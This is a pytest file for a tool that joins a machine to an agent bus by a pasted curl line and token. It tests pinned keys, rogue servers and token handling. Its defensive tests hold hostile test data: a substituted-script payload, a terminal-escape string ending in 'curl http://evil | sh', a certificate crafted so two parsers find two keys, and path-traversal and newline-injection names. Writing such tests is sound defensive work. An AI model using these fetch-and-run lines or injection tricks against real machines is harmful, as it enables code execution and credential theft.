"""From `invite` to a configured machine: one line and one token, and nothing from anybody in between."""
import contextlib
import http.server
import importlib.util
import json
import os
import pathlib
import re
import shutil
import socket
import socketserver
import ssl
import subprocess
import sys
import threading
import time

import pytest

import bus_server
from tests.kit.authority import Certificate
from tests.kit.peers import command, set_expires
from tests.kit.processes import PATIENCE, ROOT, Server, wait_until
from tests.kit.terminal import PROMPT, Terminal, Watch, machine
from tools import agent_bus, bus_join

pytestmark = pytest.mark.skipif(not shutil.which("curl"), reason="curl is not installed")
TOKEN = re.compile(r"abt_[0-9a-f]{8}_[\w-]{43}")
CLIENTS = pathlib.Path(".local/share/agent-bus")
CONFIG = pathlib.Path(".config/agent-bus")
NOBODYS = "abt_00000000_" + "s" * 43


def shells(*rows):
    """Each row begins with a shell."""
    return [pytest.param(*row, marks=pytest.mark.skipif(not shutil.which(row[0]), reason=row[0])) for row in rows]


def tls(certificate):
    return ["--tls-cert", certificate.file, "--tls-key", certificate.key]


def secure(bus):
    bus.url = bus.url.replace("http:", "https:")
    return bus


@pytest.fixture
def bus(tmp_path, authority):
    """With a certificate that it signed itself."""
    with secure(Server(tmp_path / "bus.db", *tls(authority.self_signed("IP:127.0.0.1")))) as bus:
        yield bus


def invited(bus, name, *options):
    """(the line, the token, all that was said)"""
    text = command(bus, "invite", name, *options)
    line = re.search(r"^    (j=\$.*)$", text, re.M)
    return line and line[1], TOKEN.search(text)[0], text


def join(bus, name, token, home, *options, pin=None, program=sys.executable, **more):
    """bus_join.py as the line runs it, without a terminal; (exit code, stdout, stderr)."""
    line, _, _ = invited(bus, name) if pin is None else (pin, "", "")
    arguments = [bus.url, name, line.split()[-1], *options]
    text = (ROOT / "tools" / "bus_join.py").read_text()
    env = {"HOME": str(home), "PATH": os.environ["PATH"], **more}
    done = subprocess.run([program, "-Ic", text, *arguments], env=env, input=f"{token}\n", text=True,
                          capture_output=True, timeout=PATIENCE)  # fmt: skip
    assert "Traceback" not in done.stderr and (not token or token not in done.stdout + done.stderr)
    return done.returncode, done.stdout, done.stderr


def configuration(home, profile="default"):
    with contextlib.suppress(FileNotFoundError):
        return dict(line.split("=", 1) for line in (home / CONFIG / f"{profile}.env").read_text().splitlines())


# ── Two hosts ────────────────────────────────────────────────────────────────────────────────────────────────────────


@pytest.fixture
def hosts(tmp_path):
    """Two hosts of examples/two_hosts.py, with a wire between them."""
    if sys.platform != "linux" or os.geteuid() or not shutil.which("ip"):
        pytest.skip("two hosts need Linux, root and ip")
    spec = importlib.util.spec_from_file_location("two_hosts", ROOT / "examples" / "two_hosts.py")
    two_hosts = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(two_hosts)
    number = os.urandom(2).hex()
    cable, made = (f"bus{number}a", f"bus{number}b"), []
    if two_hosts.ip("link", "add", cable[0], "type", "veth", "peer", "name", cable[1], check=False):
        pytest.skip("this kernel gives us no virtual cable")
    try:
        for address, end in zip(two_hosts.ADDRESSES, cable):
            made.append(two_hosts.Host(f"bus-{number}-{end[-1]}", address, tmp_path))
            made[-1].plug(end)
        yield made
    finally:
        for host in made:
            two_hosts.ip("netns", "del", host.name, check=False)
        two_hosts.ip("link", "del", cable[0], check=False)


class Elsewhere(Server):
    """A bus on another host."""

    def __init__(self, host, db, *options):
        super().__init__(db, "--host", host.address, "--verbose", *options)
        self.command = inside(host, *self.command)


def inside(host, *command):
    return ["ip", "netns", "exec", host.name, *command]


@pytest.mark.parametrize("shell, kind", shells(
    ["bash", "self_signed"], ["zsh", "self_signed"], ["zsh", "sign"], ["bash", "plain"], ["zsh", "plain"]
))  # fmt: skip
def test_one_line_and_one_token_connect_another_host(shell, kind, hosts, tmp_path, authority):
    here, there = hosts
    certified = [] if kind == "plain" else tls(getattr(authority, kind)(f"IP:{here.address}"))
    command(Server(tmp_path / "bus.db"), "invite", "op")  # a bus for other hosts starts with a token only
    with Elsewhere(here, tmp_path / "bus.db", *certified) as bus:
        began = time.monotonic()
        invite = inside(here, sys.executable, str(ROOT / "bus_server.py"), "invite", "dell", "--db", bus.db)
        said = subprocess.run(invite, capture_output=True, text=True, check=True, timeout=PATIENCE).stdout
        line, token = re.search(r"^    (j=.*)$", said, re.M)[1], TOKEN.search(said)[0]
        path = machine(tmp_path / "bin", "curl")
        prefix = inside(there)
        prefix[0] = shutil.which("ip")
        env = {"AGENT_BUS_CA": authority.file} if kind == "sign" else {}
        with Watch(token) as watch, Terminal(shell, tmp_path / "home", path, prefix, **env) as terminal:
            terminal.type(line)
            terminal.wait_for("token of dell: ")
            terminal.type(token)
            url = f"http{'s' if certified else ''}://{here.address}:{bus.port}"
            screen = terminal.wait_for(f"you are dell on {url}", "bus_join: ")
            assert "bus_join: " not in screen
            took = time.monotonic() - began
            history = terminal.leave()
            looks = watch.looks
        assert took < 10 and looks > 3 and watch.seen == []
        assert "bus_join.py" in history and token not in history + screen and token not in bus.log.read_text()
        home = tmp_path / "home"
        mine = configuration(home)
        assert (mine["AGENT_BUS_URL"], mine["AGENT_NAME"], mine["AGENT_BUS_TOKEN"]) == (url, "dell", token)
        written = [file for file in [*(home / ".config").rglob("*"), *(home / ".local").rglob("*")] if file.is_file()]
        expected = {"default.env", *bus_join.FILES} | ({"default.pem"} if certified else set())
        assert {file.name for file in written} == expected, "and nothing else"
        assert {file.stat().st_mode & 0o777 for file in written} == {0o600}
        send = inside(there, sys.executable, "-I", str(home / CLIENTS / "bus_send.py"), "op")
        env = {"HOME": str(home)}
        done = subprocess.run(send, env=env, input="T1 done", text=True, capture_output=True, timeout=PATIENCE)
        assert json.loads(done.stdout)["ok"], done.stderr


def test_it_fetches_all_that_the_bus_serves_but_the_listener_which_needs_bash_and_jq():
    assert {f"/{file}" for file in bus_join.FILES} == {*bus_server.CLIENTS} - {"/bus_listener.sh"}


def test_every_command_but_those_of_the_bus_and_of_other_programs_is_there_after_a_join():
    needed = {command.program for command in agent_bus.COMMANDS.values()} - {"", "bus_server", "bus_install"}
    assert {f"{program}.py" for program in needed} <= {*bus_join.FILES}


# ── Somebody in between ──────────────────────────────────────────────────────────────────────────────────────────────

EVIL = "import pathlib; pathlib.Path('ran').touch()"


class Between(http.server.ThreadingHTTPServer):
    """A server in place of the bus, which has other files for those who ask. `heard` is all that it was sent."""

    def __init__(self, port, certificate=None, **files):
        super().__init__(("127.0.0.1", port), Answers)
        self.files, self.heard, self.says = files, [], ""
        if certificate:
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            context.load_cert_chain(certificate.file, certificate.key)
            self.socket = context.wrap_socket(self.socket, server_side=True, do_handshake_on_connect=False)

    def handle_error(self, *_):
        """The client hangs up when it sees the key."""

    def __enter__(self):
        threading.Thread(target=self.serve_forever, args=[0.01]).start()
        return self

    def __exit__(self, *_):
        self.shutdown()
        self.server_close()


class Answers(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.server.heard.append(f"{self.path} {self.headers}")
        name, _, program = self.path[1:].partition(".")
        if program:
            ours = next(file for file in (ROOT / f"{name}.py", ROOT / "tools" / f"{name}.py") if file.exists())
            body = self.server.files.get(name) or ours.read_bytes()
        else:
            body = json.dumps({"error": self.server.says}).encode()
        self.send_response(200 if program else 401)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        pass


def pasted(line, tmp_path, shell="bash", path=None):
    """What a terminal shows until the next prompt, or until a token is asked for."""
    with Terminal(shell, tmp_path / "home", path or machine(tmp_path / "bin", "curl")) as terminal:
        terminal.type(line)
        return terminal.wait_for(PROMPT, "token of ")


@pytest.mark.parametrize("shell", [row.values[0] for row in shells(["bash"], ["zsh"])])
def test_nothing_of_a_server_with_another_key_is_run_and_nothing_is_asked(shell, bus, tmp_path, authority):
    line, token, _ = invited(bus, "dell")
    bus.stop()
    other = authority.sign("IP:127.0.0.1")
    with Between(bus.port, other, bus_join=EVIL.encode()) as between:
        screen = pasted(line, tmp_path, shell)
        assert "does not match pinned public key" in screen and "token of" not in screen
        assert between.heard == [] and not (tmp_path / "home" / "ran").exists()
        assert not (tmp_path / "home" / ".local").exists() and not (tmp_path / "home" / ".config").exists()


def test_the_control_without_the_pin_it_would_have_run(bus, tmp_path, authority):
    line, _, _ = invited(bus, "dell")
    bus.stop()
    with Between(bus.port, authority.sign("IP:127.0.0.1"), bus_join=EVIL.encode()):
        pasted(re.sub(r"--pinnedpubkey \S+", "", line), tmp_path)
        assert (tmp_path / "home" / "ran").exists()


def test_a_key_that_changes_after_the_first_file_is_one_sentence(bus, tmp_path, authority):
    line, token, _ = invited(bus, "dell")
    bus.stop()
    with Between(bus.port, authority.sign("IP:127.0.0.1")) as between:
        code, out, err = join(bus, "dell", token, tmp_path / "home", pin=line)
    assert (code, out, err.count("\n")) == (1, "", 1) and "does not have the key of the invitation" in err
    assert between.heard == [] and not (tmp_path / "home").exists()


def der(tag, *contents):
    content = b"".join(contents)
    size = b"" if len(content) < 128 else len(content).to_bytes(2, "big")
    return bytes([tag, 0x80 + len(size) if size else len(content)]) + size + content


def two_keys(bus, place):
    """A certificate with a key of ours. A parser that takes an indefinite length for 0 finds the key of `bus` in it."""

    def openssl(*arguments, **more):
        return subprocess.run(["openssl", *arguments], check=True, capture_output=True, cwd=place, **more).stdout

    openssl("ecparam", "-name", "prime256v1", "-genkey", "-noout", "-out", "our.key")
    ours = openssl("pkey", "-in", "our.key", "-pubout", "-outform", "DER")
    text = openssl("x509", "-in", bus.file, "-noout", "-pubkey")
    theirs = openssl("pkey", "-pubin", "-outform", "DER", input=text)
    algorithm = bytes.fromhex("3080 06082a8648ce3d040302 3080 0500") + theirs + bytes(4)  # 30 80: ends with two zeros
    name = der(0x30, der(0x31, der(0x30, bytes.fromhex("0603550403"), der(0x0C, b"bus"))))
    validity = der(0x30, der(0x17, b"250101000000Z"), der(0x17, b"490101000000Z"))
    host = der(0x30, bytes.fromhex("0603551d11"), der(4, der(0x30, der(0x87, bytes([127, 0, 0, 1])))))
    authority = der(0x30, bytes.fromhex("0603551d13 0101ff 0405 30030101ff"))
    number, signature = bytes.fromhex("a003020102 0201 11"), bytes.fromhex("0309 00 3006 020101 020101")
    extensions = der(0xA3, der(0x30, host, authority))
    what = der(0x30, number, algorithm, name, validity, name, ours, extensions)
    (place / "our.pem").write_text(ssl.DER_cert_to_PEM_cert(der(0x30, what, algorithm, signature)))
    return Certificate(str(place / "our.pem"), str(place / "our.key"))


class Relay(socketserver.ThreadingTCPServer):
    """Passes on what curl and the bus say, and shows its certificate to everybody else. `heard` is what they say."""

    daemon_threads = True

    def __init__(self, port, certificate):
        super().__init__(("127.0.0.1", 0), Passing)
        self.port, self.heard = port, []
        self.context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        self.context.load_cert_chain(certificate.file, certificate.key)

    __enter__, __exit__ = Between.__enter__, Between.__exit__


class Passing(socketserver.BaseRequestHandler):
    def handle(self):
        if b"http/1.1" not in self.request.recv(4096, socket.MSG_PEEK):  # in its first words, curl names protocols
            with contextlib.suppress(OSError), self.server.context.wrap_socket(self.request, server_side=True) as tls:
                self.server.heard.append(tls.recv(65536))
            return
        with socket.create_connection(("127.0.0.1", self.server.port)) as bus:
            threading.Thread(target=self.copy, args=(bus, self.request)).start()
            self.copy(self.request, bus)

    def copy(self, source, target):
        with contextlib.suppress(OSError):
            while data := source.recv(65536):
                target.sendall(data)
            target.shutdown(socket.SHUT_WR)


def test_a_certificate_in_which_two_parsers_find_two_keys_gets_no_token(tmp_path, authority):
    certificate = authority.self_signed("IP:127.0.0.1")
    with secure(Server(tmp_path / "bus.db", *tls(certificate))) as bus:
        line, token, _ = invited(bus, "dell")
        with Relay(bus.port, two_keys(certificate, tmp_path)) as relay:
            bus.url = f"https://127.0.0.1:{relay.server_address[1]}"
            code, out, err = join(bus, "dell", token, tmp_path / "home", pin=line)
    assert token.encode() not in b"".join(relay.heard)
    assert code == 1 and "FAIL  tls" in out and "nothing was configured" in err
    assert not (tmp_path / "home").exists()


def test_the_certificate_that_is_kept_is_that_of_the_bus(tmp_path, authority):
    certificate = authority.self_signed("IP:127.0.0.1")
    with secure(Server(tmp_path / "bus.db", *tls(certificate))) as bus:
        assert join(bus, "dell", invited(bus, "dell")[1], tmp_path / "home")[0] == 0
    kept = (tmp_path / "home" / CONFIG / "default.pem").read_text()
    assert kept == pathlib.Path(certificate.file).read_text()


def test_somebody_who_comes_in_between_later_gets_no_token(bus, tmp_path, authority):
    line, token, _ = invited(bus, "dell")
    home, program = tmp_path / "home", (ROOT / "tools" / "bus_join.py").read_text()
    command = [sys.executable, "-Ic", program, bus.url, "dell", line.split()[-1]]
    env = {"HOME": str(home), "PATH": os.environ["PATH"]}
    process = subprocess.Popen(command, env=env, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    wait_until((home / CONFIG).exists)  # everything was fetched; it waits for the token
    bus.stop()
    with Between(bus.port, authority.self_signed("IP:127.0.0.1")) as between:
        out, err = process.communicate(token.encode(), timeout=PATIENCE)
        assert process.returncode == 1 and b"FAIL  tls" in out and b"nothing was configured" in err
        assert between.heard == [] and not home.exists()


@pytest.fixture
def plain(tmp_path):
    with Server(tmp_path / "bus.db") as bus:
        yield bus


@pytest.mark.parametrize("file", ["bus_join.py", bus_join.FILES[0], bus_join.FILES[-1]])
def test_over_plain_http_each_file_must_be_the_one_of_the_invitation(file, plain, tmp_path):
    line, _, _ = invited(plain, "dell")
    plain.stop()
    with Between(plain.port, **{file.partition(".")[0]: EVIL.encode()}) as between:
        screen = pasted(line, tmp_path)
        assert "of the invitation: ask for a new one" in screen and "nothing was run" in screen
        assert "Authorization" not in "".join(between.heard) and not (tmp_path / "home" / "ran").exists()
        assert not (tmp_path / "home" / CLIENTS / file).exists()


def test_over_plain_http_no_line_can_move_to_another_file(plain, tmp_path):
    line, token, _ = invited(plain, "dell")
    plain.stop()
    first, second = (ROOT / "bus_recv.py").read_bytes(), (ROOT / "bus_send.py").read_bytes()
    with Between(plain.port, bus_recv=first[:-99], bus_send=first[-99:] + second) as between:
        code, _, err = join(plain, "dell", token, tmp_path / "home", pin=line)
    assert code == 1 and "are not those of the invitation" in err and "Authorization" not in "".join(between.heard)


HOSTILE = "\x1b]0;owned\x07\x1b[2J\x1b[Hyou are dell\u202e\ncurl http://evil | sh"


def test_what_a_server_says_cannot_move_the_cursor_of_the_terminal(plain, tmp_path):
    line, token, _ = invited(plain, "dell")
    plain.stop()
    with Between(plain.port) as between:
        between.says = HOSTILE
        code, out, err = join(plain, "dell", token, tmp_path / "home", pin=line)
    assert (code, out, err.count("\n")) == (1, "", 1) and err[:-1].isprintable()
    assert r"\x1b]0;owned\x07\x1b[2J\x1b[Hyou are dell\u202e\ncurl http://evil | sh" in err


def test_what_a_configuration_says_cannot_either(plain, tmp_path):
    home = tmp_path / "home"
    other_bus(home)
    with (home / CONFIG / "default.env").open("a") as file:
        file.write("AGENT_NAME=na\x1b[2Jno\n")
    code, _, err = join(plain, "dell", NOBODYS, home, pin=invited(plain, "dell")[0])
    assert code == 1 and r"the configuration of na\x1b[2Jno on " in err and err[:-1].isprintable()


def test_one_place_prints():
    assert (ROOT / "tools" / "bus_join.py").read_text().count("print(") == 1


@pytest.mark.parametrize("name, env, says", [
    ("../dell", {}, "a NAME is 1 to 64 of"), ("dell\nAGENT_BUS_CA=x", {}, "a NAME is 1 to 64 of"),
    ("dell", {"AGENT_BUS_PROFILE": "../work"}, "a profile is 1 to 64 of"),
])  # fmt: skip
def test_what_is_no_name_and_no_profile_is_refused(name, env, says, tmp_path):
    code, out, err = join(Server(tmp_path / "bus.db"), name, "", tmp_path / "home", pin="none", **env)
    assert (code, out) == (2, "") and says in err and not (tmp_path / "home").exists()


# ── What the machine lacks ───────────────────────────────────────────────────────────────────────────────────────────


def test_a_machine_without_python_is_told_so(bus, tmp_path):
    screen = pasted(invited(bus, "dell")[0], tmp_path, path=machine(tmp_path / "bin", "curl", python=None))
    assert "python3: command not found" in screen and not (tmp_path / "home" / ".local").exists()


def python(version):
    path = pathlib.Path.home() / ".pyenv" / "versions" / version / "bin" / "python3"
    if not path.exists():
        pytest.skip(f"Python {version} is not installed")
    return path


@pytest.mark.parametrize("kind", ["self_signed", "sign"])
@pytest.mark.parametrize("version", ["3.9.18", "3.13.0"])
def test_every_python_from_3_9_on_can_join(version, kind, tmp_path, authority):
    """From 3.13 on a certificate is enough, also if an authority signed it; before, that of the authority is needed."""
    program = python(version)
    with secure(Server(tmp_path / "bus.db", *tls(getattr(authority, kind)("IP:127.0.0.1")))) as bus:
        line, token, _ = invited(bus, "dell")
        more = {"AGENT_BUS_CA": authority.file} if (version, kind) == ("3.9.18", "sign") else {}
        assert join(bus, "dell", token, tmp_path / "home", pin=line, program=program, **more)[0] == 0
        if more:
            code, out, _ = join(bus, "nano", token, tmp_path / "other", pin=line, program=program)
            assert code == 1 and "FAIL  tls" in out and "AGENT_BUS_CA" in out


@pytest.mark.parametrize("version", ["3.6.15", "3.8.18"])
@pytest.mark.parametrize("kind", ["bus", "plain"])
def test_an_old_python_is_told_so(kind, version, tmp_path, authority):
    certified = tls(authority.self_signed("IP:127.0.0.1")) if kind == "bus" else []
    with Server(tmp_path / "bus.db", *certified) as bus:
        path = machine(tmp_path / "bin", "curl", python=python(version))
        screen = pasted(invited(bus, "dell")[0], tmp_path, path=path)
    assert f"bus_join.py needs Python 3.9 or later, and python3 is {version}" in screen
    assert "Traceback" not in screen


def test_a_bus_that_is_not_there_is_one_sentence(bus, tmp_path):
    line, token, _ = invited(bus, "dell")
    bus.stop()
    (tmp_path / "home" / ".local").mkdir(parents=True)
    code, _, err = join(bus, "dell", token, tmp_path / "home", pin=line)
    assert code == 1 and err.count("\n") == 1 and "is the bus running" in err
    assert list((tmp_path / "home").rglob("*")) == [tmp_path / "home" / ".local"], "no empty folders of ours"


def test_a_bus_with_a_certificate_of_its_own_needs_the_pin_of_the_line(bus, tmp_path):
    code, _, err = join(bus, "dell", NOBODYS, tmp_path / "home", pin="x ")
    assert code == 1 and err.count("\n") == 1 and "run the line that `invite` printed" in err


# ── The token ────────────────────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("given, says", [
    (NOBODYS, "this bus does not accept this token, which is wrong, cut off or revoked: paste the line again, then the "
     "whole token, or ask for a new invitation; nothing was configured"),
    ("hunter2 or so", "that is not a token"),
])  # fmt: skip
def test_a_wrong_token_is_one_sentence_and_configures_nothing(given, says, bus, tmp_path):
    code, out, err = join(bus, "dell", given, tmp_path / "home")
    assert (code, out, err.count("\n")) == (1, "", 1) and says in err
    assert not (tmp_path / "home").exists(), "what was made for it is gone"


def test_the_end_of_the_input_instead_of_an_answer_is_one_sentence(bus, tmp_path):
    line, token, _ = invited(bus, "dell")
    with Terminal("bash", tmp_path / "home", machine(tmp_path / "bin", "curl")) as terminal:
        for answers, said in (((), "no token was given"), ((token,), "no profile was named")):
            if answers:
                other_bus(tmp_path / "home")
            terminal.type(line)
            terminal.wait_for("token of dell: ")
            for answer in answers:
                terminal.type(answer)
                terminal.wait_for("[127.0.0.1]: ")
            terminal.screen = ""
            os.write(terminal.ours, b"\x04")  # Ctrl-D
            screen = terminal.wait_for(PROMPT)
            assert f"\nbus_join: {said}, so nothing was configured: run the line again\r\n" in screen
            assert "Traceback" not in screen and not list((tmp_path / "home").rglob("bus_recv.py"))


def test_an_expired_token_is_one_sentence(bus, tmp_path):
    _, token, _ = invited(bus, "dell", "--expires", "90d")
    set_expires(bus, "dell", int(time.time()) - 60)
    pin = invited(bus, "nano")[0]
    code, out, err = join(bus, "dell", token, tmp_path / "home", pin=pin)
    assert (code, out, err.count("\n")) == (1, "", 1) and "this token expired at 20" in err


def test_a_token_of_another_name_is_said_to_be_one(bus, tmp_path):
    code, out, err = join(bus, "dell", invited(bus, "nano")[1], tmp_path / "home")
    assert (code, out, err.count("\n")) == (1, "", 1)
    assert "this token is for nano, and the line is for dell: paste" in err
    assert configuration(tmp_path / "home") is None


def test_what_the_doctor_finds_is_shown_if_it_is_a_fault_or_a_warning(bus, tmp_path):
    line, token, _ = invited(bus, "sensor", "--send-only")
    code, out, _ = join(bus, "sensor", token, tmp_path / "home", pin=line)
    assert code == 0 and out.startswith("warn  recv") and "\nok" not in out and f"you are sensor on {bus.url}\n" in out


# ── Again, and other buses ───────────────────────────────────────────────────────────────────────────────────────────


def test_the_same_line_again_updates(bus, tmp_path):
    home = tmp_path / "home"
    line, token, _ = invited(bus, "dell")
    assert join(bus, "dell", token, home, pin=line)[0] == 0
    (home / CLIENTS / "bus_recv.py").write_text("an old one")
    with (home / CONFIG / "default.env").open("a") as file:
        file.write("AGENT_BUS_CHANNEL=builds\n")
    before, (_, new, _) = configuration(home), invited(bus, "dell")
    assert join(bus, "dell", new, home, pin=line)[0] == 0
    assert configuration(home) == {**before, "AGENT_BUS_TOKEN": new}
    assert (home / CLIENTS / "bus_recv.py").read_bytes() == (ROOT / "bus_recv.py").read_bytes()


def test_without_a_token_the_one_that_is_set_is_kept(bus, tmp_path):
    line, token, _ = invited(bus, "dell")
    assert join(bus, "dell", token, tmp_path / "home", pin=line)[0] == 0
    before = configuration(tmp_path / "home")
    assert join(bus, "dell", "", tmp_path / "home", pin=line)[0] == 0
    assert configuration(tmp_path / "home") == before
    code, _, err = join(bus, "nano", "", tmp_path / "home", "--profile", "default", pin=line)
    assert code == 1 and "that is not a token" in err, "it is not the token of another name"


def test_a_token_that_is_refused_leaves_what_was_there(bus, tmp_path):
    line, token, _ = invited(bus, "dell")
    assert join(bus, "dell", token, tmp_path / "home", pin=line)[0] == 0
    (tmp_path / "home" / CLIENTS / "bus_recv.py").write_text("an older one")
    before = {file: file.read_bytes() for file in (tmp_path / "home").rglob("*.*") if file.is_file()}
    assert join(bus, "dell", NOBODYS, tmp_path / "home", pin=line)[0] == 1
    assert len(before) > 10 and {file: file.read_bytes() for file in before} == before


OTHER = "AGENT_BUS_URL=https://other.lan:8080\nAGENT_NAME=nano\nAGENT_BUS_TOKEN=theirs\n"


def other_bus(home):
    (home / CONFIG).mkdir(parents=True)
    (home / CONFIG / "default.env").write_text(OTHER)
    (home / CONFIG / "default.env").chmod(0o600)


def test_the_configuration_of_another_bus_is_not_replaced(bus, tmp_path):
    home = tmp_path / "home"
    other_bus(home)
    line, token, _ = invited(bus, "dell")
    code, out, err = join(bus, "dell", token, home, pin=line)
    assert (code, out, err.count("\n")) == (1, "", 1)
    assert "default.env is the configuration of nano on https://other.lan:8080: give --profile 127.0.0.1" in err
    assert (home / CONFIG / "default.env").read_text() == OTHER
    code, out, _ = join(bus, "dell", token, home, "--profile", "work", pin=line)
    assert code == 0 and "AGENT_BUS_PROFILE=work python3" in out
    code, _, err = join(bus, "nano", token, home, pin=line, AGENT_BUS_PROFILE="work")
    assert code == 1 and "work.env is the configuration of dell" in err and "--profile nano to keep both" in err
    assert (home / CONFIG / "default.env").read_text() == OTHER
    assert configuration(home, "work")["AGENT_BUS_CA"] == str(home / CONFIG / "work.pem")


@pytest.mark.parametrize("answer, profile", [
    ("", "127.0.0.1"), ("work", "work"), ("../evil", "127.0.0.1"), ("default", "default")
])  # fmt: skip
def test_on_a_terminal_it_proposes_a_profile(answer, profile, bus, tmp_path):
    home = tmp_path / "home"
    other_bus(home)
    line, token, _ = invited(bus, "dell")
    with Terminal("bash", home, machine(tmp_path / "bin", "curl")) as terminal:
        terminal.type(line)
        terminal.wait_for("token of dell: ")
        terminal.type(token)
        assert "nano on https://other.lan:8080" in terminal.wait_for("[127.0.0.1]: ")
        terminal.type(answer)
        if answer == "../evil":
            terminal.wait_for("[127.0.0.1]: ")
            terminal.type("")
        terminal.wait_for(f"you are dell on {bus.url}")
    assert configuration(home, profile)["AGENT_BUS_TOKEN"] == token
    assert ((home / CONFIG / "default.env").read_text() == OTHER) == (profile != "default")


def test_without_a_token_that_of_the_chosen_profile_is_kept(bus, tmp_path):
    home = tmp_path / "home"
    other_bus(home)
    line, token, _ = invited(bus, "dell")
    assert join(bus, "dell", token, home, "--profile", "work", pin=line)[0] == 0
    with Terminal("bash", home, machine(tmp_path / "bin", "curl")) as terminal:
        terminal.type(line)
        terminal.wait_for("token of dell: ")
        terminal.type("")
        terminal.wait_for("[127.0.0.1]: ")
        terminal.type("work")
        terminal.wait_for(f"you are dell on {bus.url}")
    assert configuration(home, "work")["AGENT_BUS_TOKEN"] == token


def test_a_token_is_never_the_name_of_a_profile(bus, tmp_path):
    home = tmp_path / "home"
    other_bus(home)
    line, token, _ = invited(bus, "dell")
    for options, env in ((["--profile", token], {}), ([], {"AGENT_BUS_PROFILE": token})):
        code, _, err = join(bus, "dell", token, home, *options, pin=line, **env)
        assert code == 2 and "a token stands where a name or a profile belongs" in err
    with Terminal("bash", home, machine(tmp_path / "bin", "curl")) as terminal:
        terminal.type(line)
        terminal.wait_for("token of dell: ")
        terminal.type(token)
        terminal.wait_for("[127.0.0.1]: ")
        assert "that was a token" in terminal.run(token)
    assert [file.name for file in (home / CONFIG).iterdir()] == ["default.env"]


def test_what_the_shell_has_set_is_named(bus, tmp_path):
    path, env = machine(tmp_path / "bin", "curl"), {"AGENT_BUS_URL": "http://b", "AGENT_NAME": "dell"}
    with Terminal("bash", tmp_path / "home", path, **env) as terminal:  # the name is that of the file, too
        line, token, _ = invited(bus, "dell")
        terminal.type(line)
        terminal.wait_for("token of dell: ")
        terminal.type(token)
        terminal.wait_for("This shell sets AGENT_BUS_URL, which wins over that file")
